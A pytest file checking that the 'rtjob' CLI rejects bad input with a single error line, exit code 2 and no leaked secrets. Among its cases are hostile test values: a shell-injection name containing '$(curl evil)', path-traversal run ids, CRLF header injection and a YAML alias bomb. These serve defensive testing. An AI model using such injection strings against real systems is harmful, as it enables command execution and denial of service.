"""Bad input through the real CLI: exit 2, one `rtjob: error:` line that says where and what, no traceback,
nothing written under RTJOB_HOME. Offline: no Ray cluster is started and nothing is contacted.

Every case gets its own throw-away project (jobs/, compute_configs/) and RTJOB_HOME. The CLI costs about a
second to start, so the selected cases run concurrently in a small thread pool; each test waits for its own.
"""

from __future__ import annotations

import subprocess
import sys
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from support.cli import plant, record
from support.scrub import scrub, scrubbed_environ

REPO = Path(__file__).resolve().parents[2]
RTJOB = [sys.executable, "-m", "rtjob.main"]
# An address nothing listens on (loopback, discard port): if rtjob contacted it, the exit code would be 3.
NOWHERE = "http://127.0.0.1:9"

GOOD_JOB = "name: hello\nentrypoint: python -c pass\n"
G5_4X = """\
head_node:
  instance_type: m5.2xlarge
worker_nodes:
  - name: gpu-workers
    instance_type: g5.4xlarge
    max_nodes: 4
"""


def cli_env(home: Path, **extra: str) -> dict[str, str]:
    env = scrubbed_environ()
    env.update(RTJOB_HOME=str(home), HOME=str(home.parent / "userhome"), PYTHONUNBUFFERED="1")
    env.update(extra)
    return env


@dataclass(frozen=True)
class Case:
    args: tuple[str, ...]
    expect: tuple[str, ...]  # substrings of the one error line
    files: dict[str, str] = field(default_factory=dict)  # project files (relative path → text)
    env: dict[str, str] = field(default_factory=dict)
    absent: tuple[str, ...] = ()  # substrings that must appear nowhere in the output (a value, a secret)


def job(text: str, *args: str, expect: tuple[str, ...], cmd: str = "render",
        files: dict[str, str] | None = None) -> Case:
    """A case whose job file is jobs/bad.yaml."""
    return Case((cmd, "bad", *args), expect, {"jobs/bad.yaml": text, **(files or {})})


def flags(*args: str, expect: tuple[str, ...], cmd: str = "render", env: dict[str, str] | None = None,
          absent: tuple[str, ...] = ()) -> Case:
    """A case on the project's valid job (hello) with bad flags."""
    return Case((cmd, "hello", *args), expect, {}, env or {}, absent)


SECRET = plant("tok-9f8e7d6c5b4a-secret")  # a value that must never be echoed by an error
ALIAS_BOMB = "name: x\nentrypoint: y\nargs:\n  a: &a [1, 1, 1, 1, 1, 1, 1, 1, 1, 1]\n" + "".join(
    f"  {chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 10)}]\n" for i in range(8))


CASES = [
    # -- malformed YAML: file:line --------------------------------------------------------------------------
    pytest.param(job("name: x\nentrypoint: y\n  nodes: 2\n", cmd="submit",
                     expect=("jobs/bad.yaml:3", "invalid YAML")), id="yaml-bad-indentation"),
    pytest.param(job("name: x\nentrypoint: y\nexcludes: [a, b\nnodes: 2\n",
                     expect=("jobs/bad.yaml:3", "invalid YAML", "'[' opened here is not closed", "line 4")),
                 id="yaml-unclosed-bracket"),  # the line that opened it, where the mistake is
    pytest.param(job("name: x\nentrypoint: y\nargs: {epochs: 2,\n  lr: 3\nnodes: 2\n",
                     expect=("jobs/bad.yaml:3", "invalid YAML", "'{' opened here is not closed")),
                 id="yaml-unclosed-brace"),
    pytest.param(job("name: x\nentrypoint: y\nargs:\n\tepochs: 3\n",
                     expect=("jobs/bad.yaml:4", "invalid YAML", "\\t")), id="yaml-tab"),
    pytest.param(job("", cmd="submit", expect=("jobs/bad.yaml", "mapping", "'name'", "'entrypoint'")), id="empty-file"),
    pytest.param(job("- name: x\n- entrypoint: y\n", expect=("jobs/bad.yaml:1", "must be a YAML mapping")),
                 id="yaml-list-not-mapping"),
    pytest.param(job("name: x\nentrypoint: y\nname: z\n",
                     expect=("jobs/bad.yaml:3", "duplicate key 'name'", "first on line 1")), id="duplicate-key"),
    # -- schema ---------------------------------------------------------------------------------------------
    pytest.param(job("entrypoint: y\n", expect=("jobs/bad.yaml:1", "missing required key 'name'")),
                 id="missing-name"),
    pytest.param(job("name: x\n", cmd="submit", expect=("jobs/bad.yaml:1", "missing required key 'entrypoint'")),
                 id="missing-entrypoint"),
    pytest.param(job("name: x\nentrypont: y\n",
                     expect=("jobs/bad.yaml:2", "unknown key 'entrypont'", "did you mean 'entrypoint'?")),
                 id="typo-entrypont"),
    pytest.param(job("name: x\nentrypoint: y\nnodez: 2\n", cmd="submit",
                     expect=("jobs/bad.yaml:3", "unknown key 'nodez'", "did you mean 'nodes'?")), id="typo-nodez"),
    pytest.param(job("name: x\nentrypoint: y\nresources_per_worker:\n  cpu: 2\n",
                     expect=("jobs/bad.yaml:4", "resources_per_worker.cpu", "did you mean 'cpus'?")),
                 id="typo-nested-resources-cpu"),
    pytest.param(job('name: x\nentrypoint: y\nnodes: "three"\n',
                     expect=("jobs/bad.yaml:3", "nodes", "valid integer")), id="nodes-not-int"),
    pytest.param(job("name: x\nentrypoint: y\nmax_retries: -1\n",
                     expect=("jobs/bad.yaml:3", "max_retries", "greater than or equal to 0")),
                 id="max-retries-negative"),
    pytest.param(job("name: x\nentrypoint: y\nargs: [1, 2]\n",
                     expect=("jobs/bad.yaml:3", "args", "expected a mapping, got list")), id="args-is-list"),
    pytest.param(job('name: x\nentrypoint: y\nenv_vars:\n  A: "1"\n  B:\n    nested: 1\n', cmd="submit",
                     expect=("jobs/bad.yaml:5", "env_vars.B", "valid string")), id="env-vars-nested-mapping"),
    pytest.param(job("name: x\nentrypoint: y\nstrategy: ddp\n",
                     expect=("jobs/bad.yaml:3", "strategy", "'ray-ddp'")), id="strategy-not-in-literal"),
    pytest.param(job('name: "-bad name"\nentrypoint: y\n', expect=("jobs/bad.yaml:1", "name", "pattern")),
                 id="name-bad-pattern"),
    pytest.param(job("name: x\nentrypoint: y\nworking_dir: nowhere\n", cmd="submit",
                     expect=("jobs/bad.yaml", "working_dir 'nowhere'", "not a folder")), id="working-dir-missing"),
    # -- compute configs ------------------------------------------------------------------------------------
    pytest.param(job("name: x\nentrypoint: y\ncompute_config: g5-4xlarg\n", cmd="submit",
                     expect=("jobs/bad.yaml", "unknown compute config 'g5-4xlarg'", "did you mean 'g5-4xlarge'?")),
                 id="compute-config-missing"),
    pytest.param(job("name: x\nentrypoint: y\ncompute_config: spot\n", files={"compute_configs/spot.yaml": (
        "head_node:\n  instance_type: m5.2xlarge\nworker_nodes:\n  - name: gpu\n    instance_type: g5.4xlarge\n"
        "    market_type: CHEAP\n")},
        expect=("compute_configs/spot.yaml:6", "worker_nodes[0].market_type", "'SPOT'")),
        id="compute-config-bad-market-type"),
    pytest.param(job("name: x\nentrypoint: y\ncompute_config: odd\n", "--backend", "ray", "--address", NOWHERE,
                     files={"compute_configs/odd.yaml": "worker_nodes:\n  - instance_type: x9.huge\n"},
                     expect=("compute_configs/odd.yaml", "'x9.huge'", "not in rtjob's catalog", "resources")),
                 id="compute-config-instance-type-not-in-catalog"),
    pytest.param(job("name: x\nentrypoint: y\ncompute_config: g5-4xlarge\nworker_group: cpu-workers\n",
                     "--backend", "ray", "--address", NOWHERE, expect=("worker_group 'cpu-workers'", "gpu-workers")),
                 id="worker-group-not-in-compute-config"),
    pytest.param(job("name: x\nentrypoint: y\ncompute_config: g5-4xlarge\nresources_per_worker:\n  gpus: 2\n",
                     "--backend", "ray", "--address", NOWHERE, expect=("jobs/bad.yaml", "GPU=2", "g5.4xlarge")),
                 id="worker-can-never-fit"),
    # A bad name is blamed on where it came from (the flag, the variable), not on the job file.
    pytest.param(flags("--compute-config", "g5-4xlarg", expect=(
        "error: flag --compute-config: unknown compute config 'g5-4xlarg'", "did you mean 'g5-4xlarge'?")),
        id="compute-config-flag-missing"),
    pytest.param(flags(env={"RTJOB_COMPUTE_CONFIG": "nope"}, expect=(
        "error: env RTJOB_COMPUTE_CONFIG: unknown compute config 'nope'", "g5-4xlarge")),
        id="compute-config-env-missing"),
    pytest.param(flags("--compute-config", "anyscale:big-gpus", expect=(
        "error: flag --compute-config: compute config 'anyscale:big-gpus' is registered on Anyscale",
        "--backend anyscale")), id="registered-compute-config-off-anyscale"),
    # -- --set / --env / --nodes / --timeout ----------------------------------------------------------------
    pytest.param(flags("--set", "foo", cmd="submit", expect=("--set 'foo'", "KEY.PATH=VALUE")), id="set-without-equals"),
    pytest.param(flags("--set", "args..x=1", expect=("--set", "empty segment", "'args..x'")), id="set-empty-segment"),
    pytest.param(flags("--set", "nodes=abc", cmd="submit", expect=("--set nodes=...", "nodes", "valid integer")),
                 id="set-nodes-not-int"),
    pytest.param(flags("--set", "name.x=1", expect=("--set name.x=...", "'name' is not a mapping")),
                 id="set-into-scalar"),
    pytest.param(flags("--env", "NOEQUALS", cmd="submit", expect=("--env 'NOEQUALS'", "NAME=VALUE")),
                 id="env-without-equals"),
    pytest.param(flags("--env", "1BAD=x", expect=("--env '1BAD'", "environment variable name")), id="env-bad-name"),
    pytest.param(flags("--nodes", "0", expect=("'--nodes'", "0", "1<=x<=1000")), id="nodes-zero"),
    pytest.param(flags("--nodes", "abc", cmd="submit", expect=("'--nodes'", "'abc'")), id="nodes-not-int-flag"),
    pytest.param(flags("--timeout", "5x", cmd="submit", expect=("--timeout '5x'", "not a duration")), id="timeout-5x"),
    pytest.param(flags("--timeout", "-3", cmd="submit", expect=("--timeout '-3'",)), id="timeout-negative"),
    pytest.param(flags("--timeout", "0", cmd="submit", expect=("--timeout '0'", "greater than zero")), id="timeout-zero"),
    # Every duration option: an absurd length is bad input, never an overflow (exit 70).
    pytest.param(flags("--timeout", "1000000d", cmd="submit", expect=("--timeout '1000000d'", "at most 36500d")),
                 id="timeout-overflow"),
    pytest.param(Case(("runs", "--since", "1000000d"), ("--since '1000000d'", "at most 36500d")), id="runs-since-overflow"),
    pytest.param(Case(("list", "--since", "9" * 400), ("--since '999", "...'", "at most 36500d")),
                 id="list-since-beyond-a-float"),
    pytest.param(Case(("runs", "--prune", "--older-than", "1000000d"), ("--older-than '1000000d'", "at most 36500d")),
                 id="prune-older-than-overflow"),
    pytest.param(Case(("wait", "some-run", "--timeout", "99999999999999h"), ("--timeout", "at most 36500d")),
                 id="wait-timeout-overflow"),
    # -- backends, addresses, headers, settings -------------------------------------------------------------
    pytest.param(flags("--backend", "nope", expect=("'--backend'", "'nope'", "'local'")), id="backend-nope"),
    pytest.param(flags("--backend", "ray", cmd="submit", expect=("backend 'ray' needs an address",)),
                 id="backend-ray-without-address"),
    pytest.param(flags("--backend", "ray", "--address", "ray://x", cmd="submit",
                       expect=("address 'ray://x'", "http://head:8265")), id="address-ray-scheme"),
    pytest.param(flags("--header", "nocolon", expect=("--header 'nocolon'", "Name: value")), id="header-without-colon"),
    pytest.param(flags(expect=("RAY_JOB_HEADERS", "JSON"), env={"RAY_JOB_HEADERS": "{not json"}),
                 id="ray-job-headers-not-json"),
    pytest.param(flags(expect=("backend 'nope'", "env RTJOB_BACKEND"), env={"RTJOB_BACKEND": "nope"}),
                 id="backend-env-nope"),
    pytest.param(Case(("render", "hello"), ("pyproject.toml", "pyproject.toml:2: unknown key 'adress'",
                                            "did you mean 'address'?"),
                      {"pyproject.toml": '[tool.rtjob]\nadress = "http://head:8265"\n'}),
                 id="pyproject-unknown-key"),
    pytest.param(Case(("render", "hello"), ("pyproject.toml", "cannot read [tool.rtjob]"),
                      {"pyproject.toml": "[tool.rtjob\n"}), id="pyproject-malformed"),
    # -- values are never echoed; what reaches a URL, a path or a shell line is checked ----------------------
    pytest.param(Case(("render", "bad"), ("jobs/bad.yaml:3", "nodes", "valid integer"),
                      {"jobs/bad.yaml": f"name: x\nentrypoint: y\nnodes: {SECRET}\n"}, absent=(SECRET,)),
                 id="schema-error-never-echoes-the-value"),
    pytest.param(Case(("render", "bad"), ("jobs/bad.yaml:3", "requirements"),
                      {"jobs/bad.yaml": f"name: x\nentrypoint: y\nrequirements: https://u:{SECRET}@pypi.example\n"},
                      absent=(SECRET,)), id="requirement-url-with-token-not-echoed"),
    pytest.param(flags("--set", f"nodes={SECRET}", expect=("--set nodes=...", "valid integer"), absent=(SECRET,)),
                 id="set-value-not-echoed"),
    pytest.param(flags("--set", f"args..x={SECRET}", expect=("empty segment",), absent=(SECRET,)),
                 id="set-bad-key-value-not-echoed"),
    pytest.param(flags("--env", f"API_TOKEN {SECRET}", expect=("--env 'API_TOKEN'", "NAME=VALUE"), absent=(SECRET,)),
                 id="env-without-equals-not-echoed"),
    pytest.param(Case(("render", "bad"), ("jobs/bad.yaml", "more than 100,000 values"), {"jobs/bad.yaml": ALIAS_BOMB}),
                 id="yaml-alias-bomb"),
    pytest.param(flags("--submission-id", "../../etc", expect=("--submission-id", "not a valid run id")),
                 id="submission-id-path"),
    pytest.param(flags("--submission-id", "a/b?c=d", cmd="submit", expect=("--submission-id", "not a valid run id")),
                 id="submission-id-url"),
    pytest.param(Case(("status", "x/../../y"), ("RUN_ID", "not a valid run id")), id="run-id-path"),
    pytest.param(flags("--backend", "ray", "--address", "http://127.0.0.1:99999",
                       expect=("127.0.0.1:99999", "1-65535")), id="address-port-out-of-range"),
    pytest.param(flags("--backend", "ray", "--address", "http://[::1", expect=("not a valid URL",)),
                 id="address-unclosed-ipv6"),
    pytest.param(flags("--backend", "ray", "--address", "http://127.0.0.1:9", "--header", "X-Team: a\nInjected: b",
                       expect=("--header 'X-Team'", "control character")), id="header-value-newline"),
    pytest.param(flags("--backend", "ray", "--address", "http://127.0.0.1:9",
                       env={"RAY_JOB_HEADERS": '{"X-Team": "a\\r\\nX-Evil: 1"}'},
                       expect=("RAY_JOB_HEADERS 'X-Team'", "control character")), id="env-header-value-newline"),
    pytest.param(flags("--backend", "ray", "--address", f"http://bob:pa/ss#{SECRET}@127.0.0.1:99999",
                       expect=("1-65535",), absent=(SECRET, "pa/ss")), id="address-password-with-slash-not-echoed"),
    pytest.param(Case(("schedule", "apply", "hello", "--cron", "0 3 * * *", "--name", 'x"; $(curl evil)'),
                      ("--name", "not a valid run id")), id="schedule-name-shell"),
    # -- which job, which command ---------------------------------------------------------------------------
    pytest.param(Case(("render", "helo"), ("unknown job 'helo'", "did you mean 'hello'?")), id="unknown-job"),
    pytest.param(Case(("submit", "jobs/missing.yaml"), ("jobs/missing.yaml", "no such job file")),
                 id="job-file-missing"),
    pytest.param(Case(("bogus",), ("No such command 'bogus'",)), id="unknown-subcommand"),
]


def _run_case(case: Case, base: Path) -> subprocess.CompletedProcess[str]:
    project, home = base / "project", base / "home"
    for rel, text in {"jobs/hello.yaml": GOOD_JOB, "compute_configs/g5-4xlarge.yaml": G5_4X, **case.files}.items():
        (project / rel).parent.mkdir(parents=True, exist_ok=True)
        (project / rel).write_text(text, encoding="utf-8")
    env = cli_env(home, RTJOB_PROJECT=str(project), **case.env)
    try:
        proc = subprocess.run([*RTJOB, *case.args], cwd=project, env=env, capture_output=True, text=True, timeout=60)
        record(proc.stdout, proc.stderr)
        return proc
    finally:
        if (home / "local" / "cluster.json").exists():  # a regression started a cluster: stop exactly that one
            subprocess.run([*RTJOB, "local", "down"], cwd=project, env=env, capture_output=True, timeout=120)


def _run_in_process(case: Case, base: Path, monkeypatch: pytest.MonkeyPatch,
                    capsys: pytest.CaptureFixture[str]) -> subprocess.CompletedProcess[str]:
    """The same entry point as the console script (rtjob.main:main), called in this process with the case's
    environment and folder: 70 cases cost a second instead of 70 interpreter start-ups. The redactor starts
    empty, as in a new process."""
    from rtjob.commands import main
    from rtjob.core import redact

    project, home = base / "project", base / "home"
    for rel, text in {"jobs/hello.yaml": GOOD_JOB, "compute_configs/g5-4xlarge.yaml": G5_4X, **case.files}.items():
        (project / rel).parent.mkdir(parents=True, exist_ok=True)
        (project / rel).write_text(text, encoding="utf-8")
    scrub(monkeypatch)
    for name, value in {"RTJOB_HOME": str(home), "HOME": str(home.parent / "userhome"),
                        "RTJOB_PROJECT": str(project), **case.env}.items():
        monkeypatch.setenv(name, value)
    monkeypatch.chdir(project)
    redact.REDACTOR.clear()
    capsys.readouterr()
    try:
        main(list(case.args))
        code = 0
    except SystemExit as exc:
        code = exc.code if isinstance(exc.code, int) else 0
    out, err = capsys.readouterr()
    record(out, err)
    assert not (home / "local" / "cluster.json").exists(), "bad input started the embedded cluster"
    return subprocess.CompletedProcess(list(case.args), code, out, err)


def _assert_one_error_line(proc: subprocess.CompletedProcess[str], code: int) -> str:
    assert "Traceback" not in proc.stdout + proc.stderr, proc.stderr
    assert proc.returncode == code, f"exit {proc.returncode}\nstdout: {proc.stdout}\nstderr: {proc.stderr}"
    lines = [ln for ln in proc.stderr.strip().splitlines() if ln.strip()]
    assert len(lines) == 1, f"expected one error line, got:\n{proc.stderr}"
    assert lines[0].startswith("rtjob: error: "), lines[0]
    assert proc.stdout.strip() == "", f"nothing on stdout for bad input, got:\n{proc.stdout}"
    return lines[0]


def test_there_are_at_least_30_distinct_cases():
    ids = [p.id for p in CASES]
    assert len(ids) == len(set(ids)) >= 30
    assert len({repr(p.values[0]) for p in CASES}) == len(ids)


@pytest.mark.parametrize("case", CASES)
def test_bad_input_is_one_line_exit_2(case: Case, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                      capsys: pytest.CaptureFixture[str]) -> None:
    proc = _run_in_process(case, tmp_path, monkeypatch, capsys)
    line = _assert_one_error_line(proc, 2)
    for part in case.expect:
        assert part in line, f"{part!r} not in {line!r}"
    for part in case.absent:
        assert part not in proc.stdout + proc.stderr, f"{part!r} was echoed: {line!r}"
    # Nothing half-written: no run folder, no cluster state, no token, no storage.
    home = tmp_path / "home"
    written = sorted(str(p.relative_to(home)) for p in home.rglob("*")) if home.exists() else []
    assert written == [], f"bad input wrote under RTJOB_HOME: {written}"


def test_the_real_console_script_gives_the_same_one_line(tmp_path: Path) -> None:
    """One case through a new interpreter too, as users and CI run it (the others run in-process)."""
    proc = _run_case(next(p.values[0] for p in CASES if p.id == "set-value-not-echoed"), tmp_path)
    line = _assert_one_error_line(proc, 2)
    assert "--set nodes=..." in line and SECRET not in proc.stderr


def test_control_the_case_project_itself_is_valid(tmp_path: Path) -> None:
    """The cases' project renders fine without the bad part, so every failure above is the bad input's."""
    proc = _run_case(Case(("render", "hello", "--output", "json", "--backend", "ray", "--address", NOWHERE,
                           "--compute-config", "g5-4xlarge"), ()), tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert '"entrypoint": "python -m rtjob.runside.companion \'python -c pass\'"' in proc.stdout
    assert '"GPU": 1.0' in proc.stdout


def test_status_of_unknown_run_without_a_cluster_exits_2(tmp_path: Path) -> None:
    """An unknown run is bad input (2) whether or not the embedded cluster runs (every run it held is recorded:
    no record, no run), pointing at `rtjob runs`; and nothing gets started."""
    home = tmp_path / "home"
    env = cli_env(home, RTJOB_PROJECT=str(tmp_path))
    proc = subprocess.run([*RTJOB, "status", "rtjob-nosuch-run"], cwd=tmp_path, env=env, capture_output=True,
                          text=True, timeout=60)
    line = _assert_one_error_line(proc, 2)
    assert "no run 'rtjob-nosuch-run'" in line and "embedded cluster is not running" in line
    assert "rtjob runs lists the runs rtjob knows" in line
    assert not (home / "local" / "cluster.json").exists()
